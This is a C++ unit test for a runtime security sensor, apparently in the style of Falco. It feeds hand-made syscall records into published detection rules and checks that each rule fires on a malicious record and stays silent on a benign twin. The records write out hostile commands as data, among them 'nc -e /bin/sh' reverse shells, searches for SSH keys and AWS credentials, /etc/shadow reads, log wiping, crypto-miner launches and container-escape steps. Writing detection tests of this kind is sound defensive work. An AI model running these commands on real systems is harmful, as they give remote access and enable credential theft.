// The published rules, each fired by a record made by hand, and not by its benign twin. Rules are
// judged with all that match, so that a case need not care for the others.

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/socket.h>

#include <functional>
#include <set>
#include <string>
#include <vector>

#include "sensor/detect/testing/scene.hpp"

namespace yagura::sensor {
namespace {

using testing::RecordMaker;
using testing::Scene;
using testing::zero_ended;

constexpr std::uint32_t kApp = Scene::kInit;     // in the container
constexpr std::uint32_t kShell = Scene::kLogin;  // bash of sshd on the host
constexpr std::uint32_t kNew = 1000;             // a process that the case makes
constexpr int kReadOnly = O_RDONLY;
constexpr int kCreate = O_WRONLY | O_CREAT | O_TRUNC;

using Make = std::function<RecordMaker(Scene&)>;

struct Case {
  const char* rule;
  Make bad;
  Make good;
};

// Ways to the record, a line each.
Make open(std::uint32_t pid, const char* path, int flags, std::uint32_t mode = 0100644) {
  return [=](Scene& scene) {
    return scene.open(pid, path, static_cast<std::uint64_t>(flags), {}, mode);
  };
}
// By a process of its own.
Make opens(const char* program, std::uint32_t parent, const char* path, int flags) {
  return [=](Scene& scene) {
    scene.start(kNew, parent, program, {program});
    return scene.open(kNew, path, static_cast<std::uint64_t>(flags));
  };
}
Make runs(std::uint32_t parent, const char* path, std::initializer_list<std::string_view> argv,
          std::function<void(RecordMaker&)> change = {}) {
  const std::vector<std::string> kept(argv.begin(), argv.end());
  return [=](Scene& scene) {
    RecordMaker record = scene.exec(kNew, parent, path, {});
    std::string all;
    for (const std::string& one : kept) all += one + '\0';
    record.replace(YGR_S_ARGV, all);
    if (change) change(record);
    return record;
  };
}
// A grandchild: parent runs `through`, which runs the program.
Make runs_below(std::uint32_t parent, const char* through, const char* path,
                std::initializer_list<std::string_view> argv) {
  const Make run = runs(kNew - 1, path, argv);
  const std::string name(through);
  return [=](Scene& scene) {
    scene.start(kNew - 1, parent, name, {name});
    return run(scene);
  };
}
Make calls(std::uint32_t pid, const char* type, std::int64_t result,
           std::function<void(RecordMaker&)> change) {
  return [=](Scene& scene) {
    RecordMaker record = scene.call(pid, type, result);
    change(record);
    return record;
  };
}
Make by(const char* program, std::uint32_t parent, Make make) {
  return [=](Scene& scene) {
    scene.start(kNew, parent, program, {program});
    return make(scene);
  };
}
Make connects(std::uint32_t pid, const char* to, std::uint16_t port, std::uint16_t type = 1) {
  return calls(pid, "connect", 0, [=](RecordMaker& record) {
    record.args({5}).socket(5, "10.0.0.7", 41'234, to, port, type).address(to, port);
  });
}
std::function<void(RecordMaker&)> with_task(void (*change)(ygr_task&)) {
  return [=](RecordMaker& record) { record.change_task(change); };
}
std::function<void(RecordMaker&)> with_exe(ygr_u8 layer, ygr_u8 flags) {
  return [=](RecordMaker& record) {
    ygr_file exe{};
    exe.mode = 0100755;
    exe.layer = layer;
    exe.flags = flags;
    record.replace(YGR_S_EXE, std::string_view(reinterpret_cast<const char*>(&exe), sizeof(exe)));
  };
}
std::function<void(RecordMaker&)> in(const char* directory) {
  return [=](RecordMaker& record) { record.replace(YGR_S_CWD, directory); };
}
std::function<void(RecordMaker&)> paths(const char* first, const char* second = nullptr) {
  return [=](RecordMaker& record) {
    record.text(YGR_S_PATH0, first);
    if (second != nullptr) record.text(YGR_S_PATH1, second);
  };
}
Make privileged(Make make) {
  return [=](Scene& scene) {
    scene.container->is_privileged = true;
    return make(scene);
  };
}
Make as(std::uint32_t uid, Make make) {
  return [=](Scene& scene) {
    scene.uid = uid;
    return make(scene);
  };
}
Make capable(std::uint64_t capabilities, Make make) {
  return [=](Scene& scene) {
    scene.capabilities = capabilities;
    return make(scene);
  };
}
constexpr auto kFirstOfItsNamespace = [](ygr_task& task) { task.vpid = task.vtid = 1; };
constexpr auto kOnTerminal = [](ygr_task& task) { task.tty = 34'816; };

const std::vector<Case>& cases() {
  static const std::vector<Case> all = {
      {"Directory traversal monitored file read",
       [](Scene& scene) {
         return scene.open(kApp, "/srv/../../etc/../etc/shadow", O_RDONLY, "/etc/shadow");
       },
       open(kApp, "/etc/shadow", kReadOnly)},
      {"Directory traversal monitored file read",
       calls(kApp, "openat", -13,
             [](RecordMaker& record) {
               record.args({0, 0, 0}).text(YGR_S_PATH0, "../../etc/../etc/shadow");
               record.text(YGR_S_DIR0, "/srv/www");
             }),
       calls(kApp, "openat", -13,
             [](RecordMaker& record) {
               record.args({0, 0, 0}).text(YGR_S_PATH0, "../../usr/../usr/x");
               record.text(YGR_S_DIR0, "/srv/www");
             })},
      {"Read sensitive file untrusted", open(kApp, "/etc/shadow", kReadOnly),
       opens("/usr/bin/passwd", kShell, "/etc/shadow", kReadOnly)},
      {"Read sensitive file trusted after startup",
       [](Scene& scene) {
         scene.start(kNew, kApp, "/usr/sbin/nginx", {"nginx"});
         scene.time_ns += 6'000'000'000;
         return scene.open(kNew, "/etc/shadow", O_RDONLY);
       },
       opens("/usr/sbin/nginx", kApp, "/etc/shadow", kReadOnly)},
      {"Run shell untrusted", runs_below(kApp, "/usr/sbin/nginx", "/bin/bash", {"bash"}),
       runs_below(kApp, "/usr/sbin/other", "/bin/bash", {"bash"})},
      {"System user interactive", as(1, runs(kShell, "/bin/id", {"id"})),
       as(1, runs(1, "/bin/id", {"id"}))},
      {"Terminal shell in container",
       runs(Scene::kShim, "/bin/sh", {"sh"},
            [](RecordMaker& record) {
              record.cgroup(Scene::kContainerCgroup).change_task(kOnTerminal);
            }),
       runs(Scene::kShim, "/bin/sh", {"sh"},
            [](RecordMaker& record) { record.cgroup(Scene::kContainerCgroup); })},
      {"Contact K8S API Server From Container",
       [](Scene& scene) {
         scene.feed(scene.exec(kNew, kApp, "/bin/curl", {"curl"})
                        .text(YGR_S_ENV, zero_ended({"KUBERNETES_SERVICE_HOST=10.96.0.1"})));
         return connects(kNew, "10.96.0.1", 443)(scene);
       },
       connects(kApp, "10.96.0.1", 443)},
      {"Netcat Remote Code Execution in Container",
       runs(kApp, "/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "99"}),
       runs(kApp, "/bin/nc", {"nc", "1.2.3.4", "99"})},
      {"Search Private Keys or Passwords",
       runs(kApp, "/usr/bin/find", {"find", "/", "-name", "id_rsa"}),
       runs(kApp, "/usr/bin/find", {"find", "/", "-name", "x"})},
      {"Clear Log Activities", open(kApp, "/var/log/syslog", kCreate),
       open(kApp, "/var/log/syslog", O_WRONLY | O_APPEND)},
      {"Remove Bulk Data from Disk", runs(kApp, "/usr/bin/shred", {"shred", "x"}),
       runs(kApp, "/bin/rm", {"rm", "x"})},
      {"Create Symlink Over Sensitive Files",
       calls(kApp, "symlinkat", 0, paths("/etc/shadow", "/tmp/x")),
       calls(kApp, "symlinkat", 0, paths("/tmp/y", "/etc/shadow"))},
      {"Create Hardlink Over Sensitive Files",
       calls(kApp, "link", 0, paths("/etc/shadow", "/tmp/x")),
       calls(kApp, "link", 0, paths("/tmp/y", "/tmp/x"))},
      {"Packet socket created in container",
       calls(kApp, "socket", 3, [](RecordMaker& record) { record.args({AF_PACKET, 3, 0}); }),
       calls(kApp, "socket", 3, [](RecordMaker& record) { record.args({AF_INET, 1, 0}); })},
      {"Redirect STDOUT/STDIN to Network Connection in Container",
       calls(kApp, "dup2", 0,
             [](RecordMaker& record) {
               record.args({5, 0}).socket(0, "10.0.0.7", 41'234, "1.2.3.4", 99);
             }),
       calls(kApp, "dup2", 7,
             [](RecordMaker& record) {
               record.args({5, 7}).socket(7, "10.0.0.7", 41'234, "1.2.3.4", 99);
             })},
      {"Linux Kernel Module Injection Detected",
       capable(1U << 16U,
               by("/sbin/insmod", kApp,
                  calls(kNew, "finit_module", 0,
                        [](RecordMaker& record) { record.args({3}).file(3, "/tmp/x.ko"); }))),
       by("/sbin/insmod", kApp,
          calls(kNew, "finit_module", -1,
                [](RecordMaker& record) { record.args({3}).file(3, "/tmp/x.ko"); }))},
      {"Debugfs Launched in Privileged Container",
       privileged(runs(kApp, "/sbin/debugfs", {"debugfs", "/dev/sda"})),
       runs(kApp, "/sbin/debugfs", {"debugfs", "/dev/sda"})},
      {"Detect release_agent File Container Escapes",
       capable(1U << 21U, opens("/bin/sh", kApp, "/tmp/cg/release_agent", O_WRONLY)),
       opens("/bin/sh", kApp, "/tmp/cg/release_agent", O_WRONLY)},
      {"PTRACE attached to process",
       calls(kApp, "ptrace", 0, [](RecordMaker& record) { record.args({16, 77}); }),
       calls(kApp, "ptrace", 0, [](RecordMaker& record) { record.args({17, 77}); })},
      {"PTRACE anti-debug attempt",
       calls(kApp, "ptrace", 0, [](RecordMaker& record) { record.args({0}); }),
       calls(kApp, "ptrace", 0, [](RecordMaker& record) { record.args({7}); })},
      {"Find AWS Credentials", runs(kApp, "/bin/grep", {"grep", "aws_access_key_id", "/"}),
       runs(kApp, "/bin/grep", {"grep", "x", "/"})},
      {"Execution from /dev/shm", runs(kApp, "/dev/shm/x", {"/dev/shm/x"}),
       runs(kApp, "/usr/bin/x", {"/usr/bin/x"})},
      {"Execution from /dev/shm", runs(kApp, "/dev/shm/x", {"./x"}, in("/dev/shm")),
       runs(kApp, "/srv/x", {"./x"}, in("/srv"))},
      {"Drop and execute new binary in container",
       runs(kApp, "/tmp/x", {"/tmp/x"}, with_exe(YGR_LAYER_UPPER, 0)),
       runs(kApp, "/tmp/x", {"/tmp/x"}, with_exe(YGR_LAYER_LOWER, 0))},
      {"Disallowed SSH Connection Non Standard Port",
       by("/usr/bin/ssh", kApp, connects(kNew, "1.2.3.4", 443)),
       by("/usr/bin/ssh", kApp, connects(kNew, "1.2.3.4", 22))},
      {"Fileless execution via memfd_create",
       runs(kApp, "memfd:x", {"x"}, with_exe(YGR_LAYER_NONE, YGR_FILE_MEMFD)),
       runs(kApp, "/bin/x", {"x"})},
      // ---- incubating
      {"Modify Shell Configuration File", open(kApp, "/root/.bashrc", kCreate),
       open(kApp, "/root/.bashrc", kReadOnly)},
      {"Schedule Cron Jobs", open(kApp, "/etc/cron.d/x", kCreate),
       open(kApp, "/etc/cron.d/x", kReadOnly)},
      {"Read ssh information", open(kApp, "/root/.ssh/id_rsa", kReadOnly),
       opens("/usr/bin/ssh", kApp, "/root/.ssh/id_rsa", kReadOnly)},
      {"Read ssh information", open(kApp, "/root/.ssh", kReadOnly, 0040700),
       open(kApp, "/root/x", kReadOnly, 0040700)},
      {"DB program spawned process", runs_below(kApp, "/usr/sbin/mysqld", "/bin/sh", {"sh"}),
       runs_below(kApp, "/usr/sbin/mysqld", "/usr/sbin/mysqld", {"mysqld"})},
      {"Change thread namespace",
       calls(kApp, "setns", 0, [](RecordMaker& record) { record.args({3, 0x40000000}); }),
       by("/usr/bin/runc", kShell,
          calls(kNew, "setns", 0, [](RecordMaker& record) { record.args({3}); }))},
      {"Change namespace privileges via unshare",
       calls(kApp, "unshare", 0, [](RecordMaker& record) { record.args({0x10000000}); }),
       calls(kShell, "unshare", 0, [](RecordMaker& record) { record.args({0x10000000}); })},
      {"Launch Privileged Container",
       privileged(runs(kApp, "/bin/app", {"app"}, with_task(kFirstOfItsNamespace))),
       privileged(runs(kApp, "/bin/app", {"app"}))},
      {"Launch Excessively Capable Container",
       capable(1U << 21U, runs(kApp, "/bin/app", {"app"}, with_task(kFirstOfItsNamespace))),
       runs(kApp, "/bin/app", {"app"}, with_task(kFirstOfItsNamespace))},
      {"System procs network activity", by("/bin/bash", kApp, connects(kNew, "1.2.3.4", 80)),
       connects(kApp, "1.2.3.4", 80)},
      {"Program run with disallowed http proxy env",
       runs(kApp, "/usr/bin/curl", {"curl"},
            [](RecordMaker& record) {
              record.text(YGR_S_ENV, zero_ended({"A=1", "HTTP_PROXY=http://evil"}));
            }),
       runs(kApp, "/usr/bin/curl", {"curl"},
            [](RecordMaker& record) { record.text(YGR_S_ENV, zero_ended({"A=1"})); })},
      {"Unexpected UDP Traffic", connects(kApp, "1.2.3.4", 9'999, SOCK_DGRAM),
       connects(kApp, "1.2.3.4", 53, SOCK_DGRAM)},
      {"Non sudo setuid",
       as(1000, by("/usr/bin/evil", kShell,
                   calls(kNew, "setuid", -1, [](RecordMaker& record) { record.args({0}); }))),
       by("/usr/bin/evil", kShell,
          calls(kNew, "setuid", 0, [](RecordMaker& record) { record.args({0}); }))},
      {"User mgmt binaries", runs_below(kShell, "/bin/make", "/usr/sbin/useradd", {"useradd", "x"}),
       runs_below(kShell, "/bin/make", "/usr/sbin/useradd", {"useradd", "-D"})},
      {"Create files below dev", open(kApp, "/dev/x", kCreate), open(kApp, "/dev/null", kCreate)},
      {"Contact EC2 Instance Metadata Service From Container",
       connects(kApp, "169.254.169.254", 80), connects(kApp, "1.2.3.4", 80)},
      {"Contact cloud metadata service from container", connects(kApp, "169.254.169.254", 80),
       connects(kShell, "169.254.169.254", 80)},
      {"Launch Package Management Process in Container",
       runs(kApp, "/sbin/apk", {"apk", "add", "x"}),
       runs(kShell, "/sbin/apk", {"apk", "add", "x"})},
      {"Launch Suspicious Network Tool in Container", runs(kApp, "/usr/bin/nmap", {"nmap"}),
       runs(kShell, "/usr/bin/nmap", {"nmap"})},
      {"Launch Suspicious Network Tool on Host", runs(kShell, "/usr/bin/nmap", {"nmap"}),
       runs(kApp, "/usr/bin/nmap", {"nmap"})},
      {"Delete or rename shell history", calls(kApp, "unlinkat", 0, paths("/root/.bash_history")),
       calls(kApp, "unlinkat", 0, paths("/root/.bash_notes"))},
      {"Delete or rename shell history", open(kApp, "/root/.bash_history", kCreate),
       open(kApp, "/root/.bash_history", O_WRONLY | O_APPEND)},
      {"Set Setuid or Setgid bit",
       calls(kApp, "fchmodat", 0,
             [](RecordMaker& record) {
               record.args({0, 0, 04755}).text(YGR_S_PATH0, "x").text(YGR_S_DIR0, "/tmp");
             }),
       calls(kApp, "fchmodat", 0,
             [](RecordMaker& record) {
               record.args({0, 0, 0755}).text(YGR_S_PATH0, "x").text(YGR_S_DIR0, "/tmp");
             })},
      {"Launch Remote File Copy Tools in Container", runs(kApp, "/usr/bin/scp", {"scp", "x", "y"}),
       runs(kShell, "/usr/bin/scp", {"scp", "x", "y"})},
      {"Mount Launched in Privileged Container",
       privileged(runs(kApp, "/bin/mount", {"mount", "/dev/sda1", "/mnt"})),
       privileged(runs(kApp, "/bin/mount", {"mount"}))},
      {"Launch Ingress Remote File Copy Tools in Container",
       runs(kApp, "/usr/bin/curl", {"curl", "http://x", "-o", "y"}),
       runs(kApp, "/usr/bin/curl", {"curl", "http://x"})},
      {"Read environment variable from /proc files", open(kApp, "/proc/1/environ", kReadOnly),
       open(kApp, "/proc/1/status", kReadOnly)},
      {"Exfiltrating Artifacts via Kubernetes Control Plane",
       [](Scene& scene) {
         scene.feed(scene.exec(kNew, Scene::kShim, "/bin/tar", {"tar", "cf", "-", "x"})
                        .cgroup(Scene::kContainerCgroup));
         return scene.open(kNew, "/srv/secret", O_RDONLY);
       },
       [](Scene& scene) {
         scene.feed(scene.exec(kNew, Scene::kShim, "/bin/tar", {"tar", "cf", "-", "x"})
                        .cgroup(Scene::kContainerCgroup));
         return scene.open(kNew, "/etc/passwd", O_RDONLY);
       }},
      {"Adding ssh keys to authorized_keys", open(kApp, "/root/.ssh/authorized_keys", kCreate),
       open(kApp, "/root/.ssh/config", kCreate)},
      {"Potential Local Privilege Escalation via Environment Variables Misuse",
       runs(kShell, "/usr/bin/su", {"su"},
            [](RecordMaker& record) {
              record.text(YGR_S_ENV, zero_ended({"GLIBC_TUNABLES=glibc.malloc.mxfast=x"}));
            }),
       runs(kShell, "/usr/bin/su", {"su"})},
      {"Backdoored library loaded into SSHD (CVE-2024-3094)",
       opens("/usr/sbin/sshd", 1, "/usr/lib/liblzma.so.5.6.1", kReadOnly),
       opens("/usr/sbin/sshd", 1, "/usr/lib/liblzma.so.5.4.1", kReadOnly)},
      {"BPF Program Not Profiled",
       calls(kApp, "bpf", 4, [](RecordMaker& record) { record.args({5, 0, 128}); }),
       calls(kApp, "bpf", 4, [](RecordMaker& record) { record.args({1, 0, 128}); })},
      // ---- sandbox
      {"Unexpected inbound connection source",
       calls(kApp, "accept4", 4,
             [](RecordMaker& record) {
               record.socket(4, "10.0.0.7", 80, "1.2.3.4", 999, SOCK_STREAM, 1);
             }),
       calls(kApp, "accept4", 4,
             [](RecordMaker& record) {
               record.socket(4, "10.0.0.7", 80, "10.1.1.1", 999, SOCK_STREAM, 1);
             })},
      {"Read Shell Configuration File", open(kApp, "/root/.profile", kReadOnly),
       opens("/bin/bash", kApp, "/root/.profile", kReadOnly)},
      {"Update Package Repository", open(kApp, "/etc/apt/sources.list.d/x", kCreate),
       opens("/usr/bin/apt", kApp, "/etc/apt/sources.list.d/x", kCreate)},
      {"Write below binary dir", open(kApp, "/usr/bin/x", kCreate),
       open(kApp, "/usr/bin/x", kReadOnly)},
      {"Write below monitored dir", open(kApp, "/usr/local/bin/x", kCreate),
       open(kApp, "/usr/local/share/x", kCreate)},
      {"Write below etc", open(kApp, "/etc/x", kCreate),
       opens("/usr/sbin/useradd", kShell, "/etc/x", kCreate)},
      {"Write below root", open(kApp, "/x", kCreate), open(kApp, "/srv/x", kCreate)},
      {"Write below rpm database", open(kApp, "/var/lib/rpm/x", kCreate),
       opens("/usr/bin/dnf", kApp, "/var/lib/rpm/x", kCreate)},
      {"Modify binary dirs", calls(kApp, "renameat2", 0, paths("/bin/ls", "/tmp/ls")),
       calls(kApp, "renameat2", 0, paths("/tmp/ls", "/tmp/x"))},
      {"Mkdir binary dirs", calls(kApp, "mkdirat", 0, paths("/usr/bin/x")),
       calls(kApp, "mkdirat", 0, paths("/usr/x"))},
      {"Launch Sensitive Mount Container",
       [](Scene& scene) {
         scene.container->mounts = {{.source = "/etc", .destination = "/host-etc", .mode = "rw"}};
         return runs(kApp, "/bin/app", {"app"}, with_task(kFirstOfItsNamespace))(scene);
       },
       [](Scene& scene) {
         scene.container->mounts = {{.source = "/data", .destination = "/data", .mode = "rw"}};
         return runs(kApp, "/bin/app", {"app"}, with_task(kFirstOfItsNamespace))(scene);
       }},
      {"Interpreted procs outbound network activity",
       by("/usr/bin/python3", kApp, connects(kNew, "1.2.3.4", 80)), connects(kApp, "1.2.3.4", 80)},
      {"Interpreted procs inbound network activity",
       by("/usr/bin/python3", kApp,
          calls(kNew, "accept4", 4,
                [](RecordMaker& record) {
                  record.socket(4, "10.0.0.7", 80, "1.2.3.4", 999, SOCK_STREAM, 1);
                })),
       calls(kApp, "accept4", 4,
             [](RecordMaker& record) {
               record.socket(4, "10.0.0.7", 80, "1.2.3.4", 999, SOCK_STREAM, 1);
             })},
      {"Unexpected K8s NodePort Connection", connects(kApp, "1.2.3.4", 30'500),
       connects(kApp, "1.2.3.4", 3'050)},
      {"Create Hidden Files or Directories", calls(kApp, "mkdir", 0, paths("/tmp/.x")),
       calls(kApp, "mkdir", 0, paths("/tmp/x"))},
      {"Detect crypto miners using the Stratum protocol",
       runs(kApp, "/tmp/x", {"x", "-o", "stratum+tcp://pool"}), runs(kApp, "/tmp/x", {"x"})},
      {"Kubernetes Client Tool Launched in Container", runs(kApp, "/bin/kubectl", {"kubectl"}),
       runs(kShell, "/bin/kubectl", {"kubectl"})},
      {"Container Drift Detected (chmod)",
       calls(kApp, "chmod", 0,
             [](RecordMaker& record) { record.args({0, 0755}).text(YGR_S_PATH0, "/tmp/x"); }),
       calls(kApp, "chmod", 0,
             [](RecordMaker& record) { record.args({0, 0644}).text(YGR_S_PATH0, "/tmp/x"); })},
      {"Container Drift Detected (open+create)",
       calls(kApp, "openat", 3,
             [](RecordMaker& record) {
               record.args({0, 0, kCreate, 0755}).text(YGR_S_PATH0, "/tmp/x").file(3, "/tmp/x");
             }),
       open(kApp, "/tmp/x", kCreate)},
      {"Container Run as Root User",
       runs(kApp, "/bin/app", {"app"}, with_task(kFirstOfItsNamespace)),
       as(33, runs(kApp, "/bin/app", {"app"}, with_task(kFirstOfItsNamespace)))},
      {"Sudo Potential Privilege Escalation",
       runs(kShell, "/usr/bin/sudo", {"sudoedit", "-s", "\\"}),
       runs(kShell, "/usr/bin/sudo", {"sudo", "-s"})},
      {"Unprivileged Delegation of Page Faults Handling to a Userspace Process",
       as(33, by("/usr/bin/evil", kApp, calls(kNew, "userfaultfd", 3, [](RecordMaker&) {}))),
       calls(kApp, "userfaultfd", 3, [](RecordMaker&) {})},
      {"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
       runs(kShell, "/usr/bin/pkexec", {"pkexec"}),
       runs(kShell, "/usr/bin/pkexec", {"pkexec", "id"})},
      {"Java Process Class File Download",
       by("/usr/bin/java", kApp,
          calls(kNew, "recvfrom", 99,
                [](RecordMaker& record) {
                  record.args({4}).socket(4, "10.0.0.7", 44'444, "1.2.3.4", 80);
                  record.text(YGR_S_DATA, "HTTP/1.1 200 OK\r\n\r\n\xca\xfe\xba\xbe");
                })),
       by("/usr/bin/java", kApp,
          calls(kNew, "recvfrom", 99,
                [](RecordMaker& record) {
                  record.args({4}).socket(4, "10.0.0.7", 44'444, "1.2.3.4", 80);
                  record.text(YGR_S_DATA, "HTTP/1.1 200 OK\r\n\r\n");
                }))},
      {"Modify Container Entrypoint", open(kApp, "/proc/self/exe", O_WRONLY),
       open(kApp, "/proc/self/comm", O_WRONLY)},
      {"Decoding Payload in Container", runs(kApp, "/usr/bin/base64", {"base64", "--decode", "x"}),
       runs(kApp, "/usr/bin/base64", {"base64", "x"})},
      {"Basic Interactive Reconnaissance",
       runs(kShell, "/usr/bin/whoami", {"whoami"}, with_task(kOnTerminal)),
       runs(kShell, "/usr/bin/whoami", {"whoami"})},
      {"Netcat/Socat Remote Code Execution on Host",
       runs(kShell, "/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "99"}),
       runs(kShell, "/bin/nc", {"nc", "1.2.3.4", "99"})},
      {"Network Tool Executed During NPM Package Install",
       runs_below(kApp, "/usr/bin/npm", "/usr/bin/nc", {"nc", "1.2.3.4", "99"}),
       runs(kApp, "/usr/bin/nc", {"nc", "1.2.3.4", "99"})},
      {"Known Cryptominer Process Executed", runs(kApp, "/tmp/xmrig", {"xmrig"}),
       runs(kApp, "/tmp/x", {"x"})},
      {"Web Server Spawned Shell", runs_below(kApp, "/usr/sbin/nginx", "/bin/sh", {"sh", "-i"}),
       runs_below(kApp, "/usr/sbin/nginx", "/bin/sh", {"sh", "-c", "/usr/bin/x"})},
      {"Web Server Spawned Suspicious Child Process",
       runs_below(kApp, "/usr/sbin/nginx", "/usr/bin/curl", {"curl", "x"}),
       runs_below(kApp, "/usr/sbin/nginx", "/usr/bin/curl", {"curl", "healthcheck"})},
      {"Reverse Shell from Web Server",
       runs_below(kApp, "/usr/sbin/nginx", "/bin/bash", {"bash", "-i"}),
       runs_below(kApp, "/usr/sbin/nginx", "/bin/bash", {"bash", "x"})},
      {"Privileged Container Device Access", open(kApp, "/dev/sda1", kReadOnly, 060660),
       open(kApp, "/dev/null", kReadOnly, 020666)},
      {"Container Access to Host Sensitive Paths", open(kApp, "/host/etc/x", kReadOnly),
       open(kApp, "/etc/x", kReadOnly)},
  };
  return all;
}

TEST(PublishedRules, AreFiredByWhatTheyAreAboutAndNotByItsTwin) {
  const auto rules = testing::published_rules();
  if (rules == nullptr) GTEST_SKIP() << "skipped: no corpora";
  std::set<std::string> fired;
  for (const Case& one : cases()) {
    SCOPED_TRACE(one.rule);
    Scene bad(rules);
    bad.feed(one.bad(bad));
    EXPECT_TRUE(bad.alerts.has(one.rule));
    if (bad.alerts.has(one.rule)) fired.insert(one.rule);
    Scene good(rules);
    good.feed(one.good(good));
    EXPECT_FALSE(good.alerts.has(one.rule));
  }
  EXPECT_GE(fired.size(), 85U);
}

}  // namespace
}  // namespace yagura::sensor
